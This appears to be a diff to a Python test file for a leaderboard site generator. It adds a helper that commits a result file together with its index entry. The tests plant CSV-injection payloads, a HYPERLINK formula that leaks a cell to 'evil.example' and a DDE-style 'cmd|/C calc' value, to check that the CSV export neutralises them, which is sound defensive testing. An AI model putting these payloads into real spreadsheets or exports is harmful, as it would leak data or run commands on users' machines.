@@ -23,6 +23,7 @@ from leaderboard.hub.licenses import card_license
 from leaderboard.queue.caps import FIELD_LIMIT, RESULT_LIMIT, cap_result
 from leaderboard.site.data import SiteData
 from leaderboard.site.hooks import build
+from leaderboard.store import result_index
 from leaderboard.store.repo import Repo
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
@@ -32,12 +33,19 @@ def _result_of(root: Path, model: str) -> Path:
     return next((root / "results" / "org0" / model).glob("*.json"))
 
 
+def _commit_result(file: Path, doc: dict) -> None:
+    """Write a hostile result as the record job commits one: with its index entry."""
+    file.write_text(json.dumps(doc), encoding="utf-8")
+    root = file.parents[3]
+    result_index.write_entry(Repo(root), file.relative_to(root).as_posix())
+
+
 def _set_metric(file: Path, value: float) -> str:
     doc = json.loads(file.read_text("utf-8"))
     task_name, task = next(iter(doc["results"].items()))
     key = next(k for k in task if "," in k)
     task[key] = value
-    file.write_text(json.dumps(doc), encoding="utf-8")
+    _commit_result(file, doc)
     return f"{task_name!r} {key!r}"
 
 
@@ -73,7 +81,7 @@ def test_a_formula_in_a_cell_is_neutralised_in_the_csv_and_kept_exact_elsewhere(
     doc = json.loads(file.read_text("utf-8"))
     doc["provenance"]["hub"]["license"] = FORMULA
     doc["provenance"]["command"] = "@SUM(1+1)*cmd|' /C calc'!A0"
-    file.write_text(json.dumps(doc), encoding="utf-8")
+    _commit_result(file, doc)
     data = SiteData.load(Repo(root))
     files = data.generated_files()
     rows = list(csv.DictReader(io.StringIO(files["data/contents.csv"].decode())))
